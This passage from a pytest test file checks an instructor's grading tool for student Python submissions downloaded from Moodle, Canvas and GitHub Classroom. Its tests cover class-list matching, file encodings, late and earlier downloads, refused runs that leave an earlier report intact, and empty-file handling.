                "gradebook-canvas-challenge-2.csv (1 learner). Import those files too." in said), said


@pytest.mark.parametrize("platform, class_list", [("moodle", "the assignment's grading worksheet"),
                                                   ("canvas", "Canvas's gradebook export")])
def test_a_gradebook_of_no_row_says_which_class_list_gives_it_rows(platform, class_list):
    """A Moodle download names no learner by e-mail, a Canvas download by no SIS id: no file is written, and the
    summary says which class list gives each learner a row."""
    from grader.cli.instructor import _gradebook_summary

    said = " ".join(_gradebook_summary(platform, {"rows": 0, "key": "", "left_out": [("Ada", "no e-mail address")],
                                                  "written": False}).split())
    assert said.startswith(f"No gradebook-{platform}.csv was written: no learner has a row in it"), said
    assert f"To give each learner a row, run again with --gradebook {platform} and --class-list {class_list}" in said
    assert "run again" not in _gradebook_summary(platform, {"rows": 1, "key": "", "left_out": [
        ("Ada", "no e-mail address")]})
    # Every learner it could hold is graded in only some challenges: their grades are in the files of one challenge.
    assert "run again" not in _gradebook_summary(platform, {"rows": 0, "key": "", "left_out": [
        ("Ada", "no e-mail address")], "partial": [(f"gradebook-{platform}-challenge-1.csv", ["Bob"])]})


def test_a_file_python_would_not_run_as_a_script_is_noted_without_the_name_of_the_grader_s_copy(tmp_path):
    """The class's files are graded as copies the grader names main.py, one per distinct file: the note on bytes that
    are no UTF-8 names no file, where naming main.py would misname Ada's activations.py (or a classmate's copy)."""
    roster = tmp_path / "roster"
    source = _sources()["full"].replace("import numpy as np", "# café\nimport numpy as np", 1).encode("cp1252")
    for name, file in (("ada", "activations.py"), ("alan", "main.py")):
        (roster / name).mkdir(parents=True)
        (roster / name / file).write_bytes(source)
    out = tmp_path / "out"
    _, rows = _report(roster, out)
    for learner in ("ada", "alan"):
        note = rows[learner]["challenges"][0]["result"]["notes"]
        said = [line for line in note if "UTF-8" in line]
        assert len(said) == 1 and said[0].startswith("The file is not UTF-8 text: its byte 0xe9 on line "), note
        assert "makes Python refuse to run it as a script" in said[0] and "main.py" not in said[0]


def test_a_class_list_excel_saved_in_windows_1252_with_semicolons_names_the_class_and_the_summary_says_so(tmp_path):
    roster, sources = tmp_path / "roster", _sources()
    write_learner(roster, "Zoë Müller_501_assignsubmission_file_", {"main.py": sources["full"].encode()}, False)
    class_list = tmp_path / "moodle_grades.csv"
    class_list.write_bytes("First name;Last name;ID number;Email address\r\nZoë;Müller;S1;zoe@uni.example\r\n"
                           .encode("cp1252"))
    completed, rows = _report(roster, tmp_path / "out", "--class-list", class_list)
    assert rows["Zoë Müller"]["identity"]["email"] == "zoe@uni.example"
    assert f"The class list {class_list} is not UTF-8, so it was read as Windows-1252" in completed.stderr
    assert f"The class list {class_list} separates its columns with ';', not commas" in completed.stderr


def test_a_class_list_that_matches_fewer_than_half_of_the_entries_is_warned_of(tmp_path):
    """A class of six with a list that holds one of them: the class's statistics would be that one learner's."""
    roster, sources = tmp_path / "roster", _sources()
    names = ["ada", "alan", "grace", "edsger", "barbara", "ken"]
    for name in names:
        write_learner(roster, name, {f"challenges/{CHALLENGE}/main.py": sources["full"].encode()}, False)
    class_list = tmp_path / "class.csv"
    warning = ("The class list matches only {} of the 6 entries; the others are marked not on the class list, left "
               "out of the class's statistics and of the LMS gradebooks. It may be the list of another course or "
               "section: check --class-list and grade again.")
    for listed, warned in [(1, True), (2, True), (3, False)]:
        class_list.write_text("Student,ID,SIS User ID\n" + "".join(f"{name},{300 + number},S{300 + number}\n"
                                                                    for number, name in enumerate(names[:listed])))
        completed, rows = _report(roster, tmp_path / "out", "--class-list", class_list)
        assert (f"WARNING: {warning.format(listed)}" in completed.stderr) == warned, completed.stderr[-3000:]
        assert rows["ada"]["total"] == MAX


def test_a_class_list_that_matches_no_entry_is_warned_of_in_the_summary_and_on_the_class_page(tmp_path):
    """The list of another course: the grades are still right, but no row of it is anybody's on this list."""
    roster, sources = tmp_path / "roster", _sources()
    for name in ("ada", "alan"):
        write_learner(roster, name, {f"challenges/{CHALLENGE}/main.py": sources["full"].encode()}, False)
    class_list = tmp_path / "other_course.csv"
    class_list.write_text("Student,ID,SIS User ID\nGrace Hopper,301,S301\nEdsger Dijkstra,302,S302\n")
    completed, rows = _report(roster, tmp_path / "out", "--class-list", class_list)   # exit 0: the grades stand
    warning = ("The class list matches none of the 2 entries: none of its 2 people has an e-mail, id, GitHub username "
               "or name of an entry. It may be the list of another course or section.")
    assert f"WARNING: {warning}" in completed.stderr
    # At the top of the summary, before what the files hold, as at the top of the class page.
    assert completed.stderr.index("WARNING: ") < completed.stderr.index("pages written")
    assert completed.stderr.index("WARNING: ") == completed.stderr.index(" s.\n") + len(" s.\n")
    assert f'<div class="warning" role="alert">{warning}' in (tmp_path / "out" / "index.html").read_text()
    assert rows["ada"]["total"] == MAX
    # One entry matched: no warning.
    class_list.write_text("Student,ID,SIS User ID\nada,301,S301\nEdsger Dijkstra,302,S302\n")
    completed, _ = _report(roster, tmp_path / "out", "--class-list", class_list)
    assert "WARNING" not in completed.stderr and 'role="alert"' not in (tmp_path / "out" / "index.html").read_text()
    # A heading with no row under it names nobody: said so, as plainly.
    class_list.write_text("Student,ID,SIS User ID\n")
    completed, _ = _report(roster, tmp_path / "out", "--class-list", class_list)
    assert f"WARNING: The class list {class_list} names nobody: it holds its heading and no row" in completed.stderr


def test_a_folder_of_zips_and_a_zip_of_one_bare_main_py(tmp_path):
    roster, sources = tmp_path / "roster", _sources()
    write_learner(roster, "ada", {f"challenges/{CHALLENGE}/main.py": sources["full"].encode()}, True)
    write_learner(roster, "alan", {f"repo-main/{CHALLENGE}/main.py": sources["planted"].encode()}, True)
    write_learner(roster, "grace", {"main.py": sources["stub"].encode()}, True)
    write_learner(roster, "barbara", {"main.py": sources["full"].encode()}, True)
    write_learner(roster, "edsger", {"barbara/main.py": sources["full"].encode()}, True)
    _, rows = _report(roster, tmp_path / "out")
    _assert_graded(rows, {"ada": "full", "alan": "planted", "grace": "stub", "barbara": "full", "edsger": "full"})


def test_a_bare_main_py_is_refused_when_several_challenges_are_graded(tmp_path):
    roster = tmp_path / "roster"
    write_learner(roster, "grace", {"main.py": _sources()["full"].encode()}, True)
    completed = run_grade("report", roster, "--out", tmp_path / "out", "-j", "1", "--challenge", "3",
                          "--challenge", "4", timeout=300)
    assert completed.returncode == 2, completed.stderr[-2000:]
    (row,) = json.loads((tmp_path / "out" / "results.json").read_text())["learners"]
    assert row["total"] is None and "a bare main.py counts only when one challenge is graded" in row["problem"]


def test_a_canvas_download_graded_without_challenge_grades_nothing_and_exits_2_saying_what_to_pass(tmp_path):
    """Canvas's loose main.py files belong to no challenge by their path: graded for every challenge, none is taken."""
    roster, sources = tmp_path / "roster", _sources()
    roster.mkdir()
    (roster / "lovelaceada_201_9001_main.py").write_text(sources["full"])
    (roster / "turingalan_202_9002_main.py").write_text(sources["planted"])
    out = tmp_path / "out"
    completed = run_grade("report", roster, "--out", out, "-j", "1", timeout=300)
    assert completed.returncode == 2, completed.stderr[-2000:]
    assert ("Error: Nothing was graded: none of the 2 entries holds a file at the path of any of the "
            in completed.stderr)
    # Their files define challenge 3's names: that is the challenge to pass.
    assert ("Each entry's only file, named for no challenge, is graded only when one challenge is. The entries hold "
            "work for challenge_3_activations (2 of 2): run again with --challenge 3.") in completed.stderr
    grades = {row[0]: row for row in _read_csv(out / "grades.csv")[1:]}
    assert set(grades) == {"lovelaceada", "turingalan"} and grades["lovelaceada"][-5] == ""
    # One learner whose upload holds the course's layout is graded; the class's loose files still want --challenge.
    with zipfile.ZipFile(roster / "hoppergrace_203_9003_work.zip", "w") as zipped:
        zipped.writestr(f"challenges/{CHALLENGE}/main.py", sources["full"])
    (roster / "knuthdon_204_9004_main.py").write_text(sources["full"])
    completed = run_grade("report", roster, "--out", tmp_path / "some", "-j", "1", timeout=300)
    assert completed.returncode == 2, completed.stderr[-2000:]
    assert ("Error: The report was written, but 3 of the 4 entries were not graded: they hold no file taken for the "
            "challenges graded. The entries hold work for challenge_3_activations (3 of 4): run again with "
            "--challenge 3.") in completed.stderr
    (roster / "hoppergrace_203_9003_work.zip").unlink()
    (roster / "knuthdon_204_9004_main.py").unlink()
    # Files that define no challenge's names get the general advice.
    for path in roster.iterdir():
        path.write_text("print('hello')\n")
    completed = run_grade("report", roster, "--out", tmp_path / "other", "-j", "1", timeout=300)
    assert completed.returncode == 2, completed.stderr[-2000:]
    assert ("is taken only when one challenge is graded: pass --challenge with the challenge the class handed in "
            "(its number or name).") in completed.stderr


def _earlier_report(tmp_path):
    """(roster, sources, out, every file of out by path) of a report of two learners, ada and alan, for CHALLENGE."""
    roster, sources = tmp_path / "roster", _sources()
    write_learner(roster, "ada", {f"challenges/{CHALLENGE}/main.py": sources["full"].encode()}, False)
    write_learner(roster, "alan", {f"challenges/{CHALLENGE}/main.py": sources["planted"].encode()}, False)
    out = tmp_path / "out"
    completed = run_grade("report", roster, "--out", out, "-j", "1", "--challenge", "3", "--gradebook", "moodle",
                          timeout=300)
    assert completed.returncode == 0, completed.stderr[-2000:]
    return roster, sources, out, {path: path.read_bytes() for path in out.rglob("*") if path.is_file()}


@pytest.mark.parametrize("wrong", ["empty folder", "no challenge 3", "another class", "another challenge"])
def test_a_run_that_grades_nothing_into_an_earlier_report_leaves_that_report_as_it_was(tmp_path, wrong):
    """The wrong folder (empty, another class's download, a download for another challenge), or the wrong
    --challenge, given with the --out of an earlier report: the run exits 2 saying why, and the instructor's report
    is still there, every file as it was, LMS gradebooks included."""
    roster, sources, out, before = _earlier_report(tmp_path)
    other, challenge = tmp_path / "other", "3"
    other.mkdir()
    if wrong == "no challenge 3":
        write_learner(other, "bob", {"notes.txt": b"I forgot the code"}, False)
    elif wrong == "another class":
        write_learner(other, "bob", {f"challenges/{CHALLENGE}/main.py": sources["planted"].encode()}, False)
    elif wrong == "another challenge":
        other, challenge = roster, "5"
    # A second mistake finds the earlier report as the first did; one with --fresh leaves its results too.
    for extra in ([], ["--fresh"]):
        completed = run_grade("report", other, "--out", out, "-j", "1", "--challenge", challenge, *extra, timeout=300)
        assert completed.returncode == 2, completed.stderr[-2000:]
        assert "Error: Nothing was graded: " in completed.stderr
        assert f"The report an earlier run wrote into {out} was left as it was." in completed.stderr
        assert "say why for each" not in completed.stderr, "no page of this run says anything"
        assert {path: path.read_bytes() for path in out.rglob("*") if path.is_file()} == before
    said = {"another class": f"none of the 2 learners of the report in {out} (ada; alan) has an entry in {other}",
            "another challenge": "The entries hold work for challenge_3_activations (2 of 2): run again with "
                                 "--challenge 3."}
    assert said.get(wrong, "") in completed.stderr, completed.stderr
    completed = run_grade("report", roster, "--out", out, "-j", "1", "--challenge", "3", timeout=300)
    assert completed.returncode == 0 and "2 learners, 2 submissions: 0 graded now" in completed.stderr, \
        completed.stderr[-2000:]


@pytest.mark.parametrize("wrong", ["another assignment", "some learners"])
def test_a_run_that_would_remove_grades_of_an_earlier_report_leaves_it_unless_told_to_replace_it(tmp_path, wrong):
    """The next assignment's download, or a download of the late submissions alone, given with the --out of an
    earlier report: writing its report there would remove the grades of the challenge it does not grade, or of the
    learners it lacks. The run exits 2 saying so, and the report is still there, every file as it was (the Moodle
    worksheet of its assignment above all); --replace is the instructor's word that this run's report replaces it."""
    roster, sources, out, before = _earlier_report(tmp_path)
    other = tmp_path / "other"
    if wrong == "another assignment":
        first = solution("challenge_1_forward_pass").read_bytes()
        for name in ("ada", "alan"):
            write_learner(other, name, {"challenges/challenge_1_forward_pass/main.py": first}, False)
        challenge, said = "1", (f"Nothing was graded: the report in {out} holds grades of {CHALLENGE}, which this run "
                                "does not grade, and writing this run's report there would remove them.")
    else:
        write_learner(other, "ada", {f"challenges/{CHALLENGE}/main.py": sources["planted"].encode()}, False)
        challenge, said = "3", (f"Nothing was graded: 1 learner of the report in {out} (alan) has no entry in {other}, "
                                "and writing this run's report there would remove their grade.")
    completed = run_grade("report", other, "--out", out, "-j", "1", "--challenge", challenge, timeout=300)
    assert completed.returncode == 2 and said in completed.stderr, completed.stderr[-2000:]
    assert f"The report an earlier run wrote into {out} was left as it was." in completed.stderr
    assert {path: path.read_bytes() for path in out.rglob("*") if path.is_file()} == before
    completed = run_grade("report", other, "--out", out, "-j", "1", "--challenge", challenge, "--replace", timeout=300)
    assert completed.returncode == 0, completed.stderr[-2000:]
    rows = json.loads((out / "results.json").read_text())["learners"]
    assert sorted(row["learner"] for row in rows) == (["ada", "alan"] if wrong == "another assignment" else ["ada"])


def test_an_earlier_download_is_not_graded_over_the_newer_submissions_of_a_report_unless_told_to(tmp_path):
    """Canvas's attachment ids grow with every upload: a download whose file for a learner has a smaller one than
    the file the report graded is an earlier download, whose report would put older work in place of newer."""
    sources, out = _sources(), tmp_path / "out"
    latest, earlier = tmp_path / "latest", tmp_path / "earlier"
    # The earlier download lacks a learner who handed in since, too: the older upload is the telling reason.
    _canvas_files(latest, {"lovelaceada_201_9001_main.py": sources["full"],
                           "liskovbarbara_LATE_205_9305_main.py": sources["full"],
                           "turingalan_202_9002_main.py": sources["full"]})
    _canvas_files(earlier, {"lovelaceada_201_9001_main.py": sources["full"],
                            "liskovbarbara_205_9301_main.py": sources["planted"]})
    _report(latest, out)
    before = {path: path.read_bytes() for path in out.rglob("*") if path.is_file()}
    completed = run_grade("report", earlier, "--out", out, "-j", "1", "--challenge", "3", timeout=300)
    assert completed.returncode == 2, completed.stderr[-2000:]
    assert (f"Nothing was graded: for 1 learner (liskovbarbara), {earlier} holds an older submission than the one the "
            f"report in {out} graded") in completed.stderr, completed.stderr[-2000:]
    assert {path: path.read_bytes() for path in out.rglob("*") if path.is_file()} == before
    # The same download again, and a later one, are graded as ever.
    _canvas_files(latest, {"liskovbarbara_LATE_205_9400_main.py": sources["planted"]})
    (latest / "liskovbarbara_LATE_205_9305_main.py").unlink()
    completed, rows = _report(latest, out)
    assert rows["liskovbarbara"]["total"] < MAX
    assert (f"Totals changed since the last report: liskovbarbara {MAX} → {rows['liskovbarbara']['total']:g}."
            in completed.stderr), completed.stderr
    completed, rows = _report(earlier, out, "--replace")
    assert rows["liskovbarbara"]["challenges"][0]["origin"].endswith("9301_main.py")


@pytest.mark.parametrize("listed", [True, False], ids=["listed", "new to the report"])
def test_a_first_submission_in_a_later_download_is_named_among_the_totals_that_changed(tmp_path, listed):
    """A learner with no entry in the first download (a row of the class list without work, or nobody yet) who
    hands in late has a page new to the report: the summary names them, with no total before."""
    sources, out = _sources(), tmp_path / "out"
    first, later = tmp_path / "first", tmp_path / "later"
    _canvas_files(first, {"lovelaceada_201_9001_main.py": sources["full"]})
    _canvas_files(later, {"lovelaceada_201_9001_main.py": sources["full"],
                          "turingalan_LATE_202_9005_main.py": sources["planted"]})
    class_list = tmp_path / "canvas_export.csv"
    class_list.write_text('Student,ID,SIS User ID,SIS Login ID,Section,Activations (77)\n'
                          '    Points Possible,,,,,11\n"Lovelace, Ada",201,S1,ada,Section A,\n'
                          '"Turing, Alan",202,S2,alan,Section B,\n')
    _report(first, out, *(["--class-list", class_list] if listed else []))
    completed, rows = _report(later, out)
    name = "Turing, Alan" if listed else "turingalan"
    assert f"Totals changed since the last report: {name} – → {rows[name]['total']:g}." in completed.stderr, \
        completed.stderr[-2000:]
    # A run that changes nothing names nobody.
    assert "Totals changed" not in _report(later, out)[0].stderr


def test_a_learner_renamed_by_a_class_list_given_later_is_found_by_id_among_the_totals_that_changed(tmp_path):
    """A new page under a new name (a class list given at the second run) is the same learner by their Canvas id:
    their total before is that of their page under the old name, not none."""
    sources, out = _sources(), tmp_path / "out"
    first, later = tmp_path / "first", tmp_path / "later"
    _canvas_files(first, {"lovelaceada_201_9001_main.py": sources["full"],
                          "turingalan_202_9002_main.py": sources["planted"]})
    _canvas_files(later, {"lovelaceada_201_9001_main.py": sources["full"],
                          "turingalan_LATE_202_9005_main.py": sources["full"]})
    class_list = tmp_path / "canvas_export.csv"
    class_list.write_text('Student,ID,SIS User ID,SIS Login ID,Section,Activations (77)\n'
                          '    Points Possible,,,,,11\n"Lovelace, Ada",201,S1,ada,Section A,\n'
                          '"Turing, A. M.",202,S2,alan,Section B,\n')
    _, rows = _report(first, out)
    before = rows["turingalan"]["total"]
    completed, rows = _report(later, out, "--class-list", class_list)
    assert f"Totals changed since the last report: Turing, A. M. {before:g} → {MAX}." in completed.stderr, \
        completed.stderr[-2000:]


def test_a_later_download_in_which_one_learner_holds_an_older_submission_is_graded_and_says_so(tmp_path):
    """A download newer than the report's for some learners is no earlier download: a learner whose file in it is
    older than the one graded made that older one count again (Gradescope's active submission, say). It is graded,
    the others' new work with it, and the summary names the learner."""
    sources, out = _sources(), tmp_path / "out"
    first, later = tmp_path / "first", tmp_path / "later"
    _canvas_files(first, {"lovelaceada_201_9001_main.py": sources["planted"],
                          "turingalan_202_9005_main.py": sources["full"]})
    _canvas_files(later, {"lovelaceada_LATE_201_9010_main.py": sources["full"],
                          "turingalan_202_9002_main.py": sources["planted"]})
    _report(first, out)
    completed, rows = _report(later, out)
    assert rows["lovelaceada"]["total"] == MAX and rows["turingalan"]["total"] < MAX
    assert ("1 learner's entry holds an older submission than the one the last run graded (turingalan), while others "
            "hold newer ones") in completed.stderr, completed.stderr[-2000:]


def test_a_main_py_that_is_a_later_challenge_s_stub_is_graded_and_said_to_be_the_course_s_code(tmp_path):
    """Challenge 17's stub gives challenge 3's functions as working code: handed in as main.py, it is graded, and the
    row says whose code it is, as it says of the course's solution."""
    roster, out = tmp_path / "roster", tmp_path / "out"
    later = (ROOT / "challenges" / "challenge_17_convolution" / ".pristine" / "main.py").read_bytes()
    write_learner(roster, "copier", {f"challenges/{CHALLENGE}/main.py": later}, False)
    write_learner(roster, "worker", {f"challenges/{CHALLENGE}/main.py": _sources()["full"].encode()}, False)
    _report(roster, out)
    notes = {row[0]: row[-1] for row in _read_csv(out / "grades.csv")[1:]}
    assert "is another challenge's stub as shipped, statement for statement" in notes["copier"], notes["copier"]
    assert "stub as shipped" not in notes["worker"]


def test_gradescope_submission_times_are_compared_as_times_whatever_their_offsets():
    from grader.classroom.report import _is_older

    pacific_evening, utc_night = {"submitted_at": "2025-03-01T18:00:00-08:00"}, {"submitted_at": "2025-03-01T20:00:00"
                                                                                               "+00:00"}
    assert not _is_older(pacific_evening, utc_night) and _is_older(utc_night, pacific_evening)
    assert not _is_older({"submitted_at": "2025-03-01T18:00:00"}, utc_night)    # no time zone: not compared
    assert not _is_older({"submitted_at": ""}, utc_night) and _is_older({"upload": 3}, {"upload": 4})


def test_a_challenge_an_earlier_report_holds_no_work_of_may_be_left_out_of_the_next_run(tmp_path):
    """A first report of every challenge tells the instructor to grade only those set so far, with --challenge: the
    next run into the same folder goes on, as the challenges it leaves out hold no learner's work (nothing handed in,
    or the stub as shipped) whose grade it would remove."""
    roster, out, sources = tmp_path / "roster", tmp_path / "out", _sources()
    for name in ("ada", "alan"):
        write_learner(roster, name, {f"challenges/{CHALLENGE}/main.py": sources["full"].encode(),
                                     "challenges/challenge_2_shapes/main.py": stub("challenge_2_shapes").read_bytes()},
                      False)
    _report(roster, out, "--challenge", "1", "--challenge", "2")
    completed, rows = _report(roster, out)
    assert "Nothing was graded" not in completed.stderr
    assert [item["challenge"] for item in rows["ada"]["challenges"]] == [CHALLENGE]


def test_a_run_stopped_by_an_unreadable_download_leaves_the_report_s_learners_known(tmp_path):
    """A run into the folder of an earlier report that stops on an unreadable download (a zip cut short) keeps the
    gradebook's record of the report's learners, so that a download of the late submissions alone is still refused
    after it, and every file of the report stays as it was."""
    roster, sources, out, before = _earlier_report(tmp_path)
    broken = tmp_path / "submissions.zip"
    broken.write_bytes(b"PK\x03\x04" + b"\x00" * 200)
    completed = run_grade("report", broken, "--out", out, "-j", "1", "--challenge", "3", timeout=300)
    assert completed.returncode == 2 and "is not a readable .zip archive" in completed.stderr, completed.stderr[-2000:]
    # The whole class's download: no one learner uploaded it.
    assert "download it again from the platform." in completed.stderr and "learner" not in completed.stderr
    late = tmp_path / "late"
    write_learner(late, "ada", {f"challenges/{CHALLENGE}/main.py": sources["planted"].encode()}, False)
    completed = run_grade("report", late, "--out", out, "-j", "1", "--challenge", "3", timeout=300)
    assert completed.returncode == 2, completed.stderr[-2000:]
    assert f"1 learner of the report in {out} (alan) has no entry in {late}" in completed.stderr, completed.stderr
    assert {path: path.read_bytes() for path in out.rglob("*") if path.is_file()} == before


def test_another_platform_s_download_into_a_report_is_refused_as_such(tmp_path):
    """A Moodle download graded into a Canvas report matches some learners by name alone: the refusal says the two
    come from different platforms, not that learners are missing."""
    sources, out = _sources(), tmp_path / "out"
    _canvas_files(tmp_path / "canvas", {"lovelaceada_201_9001_main.py": sources["full"],
                                        "turingalan_202_9002_main.py": sources["planted"]})
    _report(tmp_path / "canvas", out)
    before = {path: path.read_bytes() for path in out.rglob("*") if path.is_file()}
    _moodle_uploads(tmp_path / "moodle", (("Ada Lovelace", 501, "full"), ("Grace Hopper", 502, "planted")))
    completed = run_grade("report", tmp_path / "moodle", "--out", out, "-j", "1", "--challenge", "3", timeout=300)
    assert completed.returncode == 2, completed.stderr[-2000:]
    assert (f"{tmp_path / 'moodle'} is a Moodle download, and the report in {out} was graded from a Canvas download"
            in completed.stderr), completed.stderr
    assert {path: path.read_bytes() for path in out.rglob("*") if path.is_file()} == before


def test_a_row_the_class_list_holds_twice_is_one_learner_graded_into_every_gradebook(tmp_path):
    """Two exports joined, or a learner enrolled again, list one person twice, every cell alike: that is one learner,
    matched to their entry and given their grade, not two people no entry can tell apart."""
    roster, sources = tmp_path / "roster", _sources()
    roster.mkdir()
    (roster / "leesam_1010_50010_main.py").write_text(sources["full"])
    listed = tmp_path / "class.csv"
    listed.write_text('Student,ID,SIS User ID,SIS Login ID,Section\n"Lee, Sam",1010,S1010,slee,A\n'
                      '"Lovelace, Ada",1020,S1020,ada,A\n"Lee, Sam",1010,S1010,slee,A\n')
    out = tmp_path / "out"
    completed, rows = _report(roster, out, "--class-list", listed, "--gradebook", "canvas")
    assert f"Row 4 of the class list {listed} repeats row 2 (Lee, Sam)" in completed.stderr, completed.stderr
    assert sorted(rows) == ["Lee, Sam", "Lovelace, Ada"] and rows["Lee, Sam"]["total"] == MAX, rows
    canvas = _read_csv(out / "gradebook-canvas.csv")
    assert [row[0] for row in canvas[1:] if row[0] != "Points Possible"] == ["Lee, Sam"], canvas


def test_a_learner_a_class_list_renames_is_the_same_learner_and_a_refused_runs_class_list_is_not_kept(tmp_path):
    """A learner counts as the report's own by name, entry, e-mail or id: a class list that renames one (a name
    changed in the LMS) or names one it left out before is no cause to refuse. A refused run's --class-list is not
    the folder's: the next run reads the earlier one again."""
    roster, sources = tmp_path / "roster", _sources()
    roster.mkdir()
    (roster / "leesam_1010_50010_main.py").write_text(sources["full"])
    (roster / "lovelaceada_1020_50020_main.py").write_text(sources["planted"])
    first, renamed = tmp_path / "first.csv", tmp_path / "renamed.csv"
    first.write_text('Student,ID,SIS User ID,SIS Login ID,Section\n"Lee, Sam",1010,S1010,slee,A\n')
    renamed.write_text('Student,ID,SIS User ID,SIS Login ID,Section\n"Lee, Samuel",1010,S1010,slee,A\n'
                       '"Lovelace, Ada",1020,S1020,ada,A\n')
    out = tmp_path / "out"
    completed, rows = _report(roster, out, "--class-list", first)
    assert sorted(rows) == ["Lee, Sam", "lovelaceada"], sorted(rows)
    # Only the late file, with the new class list: refused, and the new list is not remembered.
    late = tmp_path / "late"
    late.mkdir()
    (late / "lovelaceada_LATE_1020_50021_main.py").write_text(sources["full"])
    refused = run_grade("report", late, "--out", out, "-j", "1", "--challenge", CHALLENGE, "--class-list", renamed)
    assert refused.returncode == 2 and "1 learner of the report in" in refused.stderr, refused.stderr[-2000:]
    completed, rows = _report(roster, out)
    assert sorted(rows) == ["Lee, Sam", "lovelaceada"], sorted(rows)
    completed, rows = _report(roster, out, "--class-list", renamed)
    assert sorted(rows) == ["Lee, Samuel", "Lovelace, Ada"], (sorted(rows), completed.stderr[-2000:])


def test_clones_graded_for_a_challenge_none_holds_are_told_which_they_hold_and_leave_no_lms_gradebook(tmp_path):
    """GitHub Classroom clones graded for a challenge they were not set: the refusal names the challenges they hold
    work for (not those whose stub, as a release ships it, is all they hold), and no gradebook of no grades is left
    to import."""
    roster, sources = tmp_path / "roster", _sources()
    first = solution("challenge_1_forward_pass").read_bytes()
    write_learner(roster, "hw1-ada", {"challenges/challenge_1_forward_pass/main.py": first,
                                      f"challenges/{CHALLENGE}/main.py": sources["full"].encode()}, False)
    write_learner(roster, "hw1-bob", {f"challenges/{CHALLENGE}/main.py": sources["planted"].encode(),
                                      "challenges/challenge_2_shapes/main.py": stub("challenge_2_shapes").read_bytes()},
                  False)
    out = tmp_path / "out"
    completed = run_grade("report", roster, "--out", out, "-j", "1", "--challenge", "4", "--gradebook", "canvas",
                          "--gradebook", "moodle", timeout=300)
    assert completed.returncode == 2, completed.stderr[-2000:]
    assert ("The entries hold work for challenge_1_forward_pass (1 of 2) and challenge_3_activations (2 of 2): run "
            "again with --challenge 1 --challenge 3 (or only those the class was set).") in completed.stderr
    assert "challenge_2_shapes" not in completed.stderr
    assert not list(out.glob("gradebook-*.csv")) and (out / "grades.csv").is_file()


def test_a_download_of_one_assignment_graded_without_challenge_is_told_the_challenge_most_entries_hold(tmp_path):
    """A Canvas download is one assignment's: one learner's file for another challenge makes the refusal name the
    challenge most entries hold first, not every challenge any entry holds."""
    roster, sources, out = tmp_path / "roster", _sources(), tmp_path / "out"
    _canvas_files(roster, {"lovelaceada_201_9001_main.py": sources["full"],
                           "turingalan_202_9002_main.py": sources["planted"],
                           "hoppergrace_203_9003_main.py": sources["full"],
                           "liskovbarbara_204_9004_main.py": solution("challenge_1_forward_pass").read_text()})
    completed = run_grade("report", roster, "--out", out, "-j", "1", timeout=300)
    assert completed.returncode == 2, completed.stderr[-2000:]
    said = " ".join(completed.stderr.split())
    assert ("The entries hold work for challenge_1_forward_pass (1 of 4) and challenge_3_activations (3 of 4): run "
            "again with --challenge 3, the challenge most of them hold (the others may have handed in the wrong "
            "file).") in said, said
    # Graded for that challenge, the other file is worth a look, said as what it looks written for.
    completed, _ = _report(roster, out)
    assert "(liskovbarbara: looks written for challenge_1_forward_pass)" in completed.stderr, completed.stderr
    # The class page's matrix tells it apart from a file that crashed, in the same colour.
    assert 'class="cell error"' in _cell(out, "liskovbarbara") and "<small>other challenge</small>" in _cell(
        out, "liskovbarbara")
    # Half and half: one challenge a run, whichever the class was set (a run of both grades no such file).
    (roster / "hoppergrace_203_9003_main.py").write_text(solution("challenge_1_forward_pass").read_text())
    completed = run_grade("report", roster, "--out", tmp_path / "halves", "-j", "1", timeout=300)
    assert completed.returncode == 2, completed.stderr[-2000:]
    assert ("run again with the --challenge the class was set, one of --challenge 1 or --challenge 3 (one run "
            "grades such files for one challenge).") in " ".join(completed.stderr.split()), completed.stderr


def test_the_summary_counts_what_was_not_graded_and_names_no_count_of_none(tmp_path):
    roster, sources = tmp_path / "roster", _sources()
    write_learner(roster, "ada", {f"challenges/{CHALLENGE}/main.py": sources["full"].encode()}, False)
    (roster / "bob.zip").write_bytes(b"not a zip at all")
    completed, rows = _report(roster, tmp_path / "out")
    assert "Not graded: the whole entry of 1 learner (bob); grades.csv and their pages say why." in completed.stderr
    assert "single submission" not in completed.stderr and rows["bob"]["total"] is None


def test_an_empty_file_handed_in_is_graded_and_its_row_says_it_holds_no_code(tmp_path):
    """An empty main.py fails every check as "not defined": its row in grades.csv says what is wrong with the file,
    as the learner's page does."""
    roster, sources = tmp_path / "roster", _sources()
    _canvas_files(roster, {"lovelaceada_201_9001_main.py": sources["full"], "turingalan_202_9002_main.py": "",
                           "hoppergrace_203_9003_main.py": "\n  \n"})
    out = tmp_path / "out"
    _, rows = _report(roster, out)
    grades = {row[0]: row[-1] for row in _read_csv(out / "grades.csv")[1:]}
    assert grades["turingalan"] == (f"{CHALLENGE}: turingalan_202_9002_main.py holds no code (0 bytes): was the work "
                                    "saved in it?")
    assert "hoppergrace_203_9003_main.py holds no code (blank lines only)" in grades["hoppergrace"]
    assert "holds no code" not in grades["lovelaceada"] and rows["turingalan"]["total"] == 0
    # The learner's page says it once, in the grader's words.
    (page,) = (out / "learners").glob("turingalan-*.html")
    text = page.read_text(encoding="utf-8")
    assert "The file graded is empty (0 bytes)" in text and "holds no code" not in text


def _cell(out, learner):
    """The class page's cell of `learner`'s one challenge, as HTML."""
    index = (out / "index.html").read_text(encoding="utf-8")
    row = re.search(r"<tr [^>]*>\s*<th[^>]*><a [^>]*>" + re.escape(learner) + r"</a>.*?</tr>", index, re.S).group()
    return re.search(r'<td class="cell .*?</td>', row, re.S).group()


def test_an_empty_file_reads_as_empty_on_the_class_page_and_is_left_out_of_its_statistics(tmp_path):
    """A file of no code fails every check as an error would: its cell says it was empty, the legend and the filter
    know the state, and its checks are not counted among the class's failing ones."""
    roster, sources = tmp_path / "roster", _sources()
    _canvas_files(roster, {"lovelaceada_201_9001_main.py": sources["planted"], "turingalan_202_9002_main.py": "",
                           "hoppergrace_203_9003_main.py": "\n  \n",
                           "dijkstraedsger_204_9004_main.py": sources["planted"] + "\ndef broken(:\n"})
    out = tmp_path / "out"
    _, rows = _report(roster, out)
    for learner in ("turingalan", "hoppergrace"):
        assert rows[learner]["challenges"][0]["state"] == "empty", learner
        assert 'class="cell empty"' in _cell(out, learner) and "<small>empty</small>" in _cell(out, learner)
    assert "<small>error</small>" in _cell(out, "dijkstraedsger")
    index = html.unescape((out / "index.html").read_text(encoding="utf-8"))
    assert '<span class="empty">' in index and '<option value="empty">a challenge: empty (2 submissions)' in index
    assert "2 empty files, counted in the scores but left out of the pass rates, failing checks and mistakes" in index
    # Only the planted mistake's file fails sigmoid: the empty ones say nothing of the class's mistakes, nor does
    # one that could not be imported, which is no more counted among the submissions its rate is a share of.
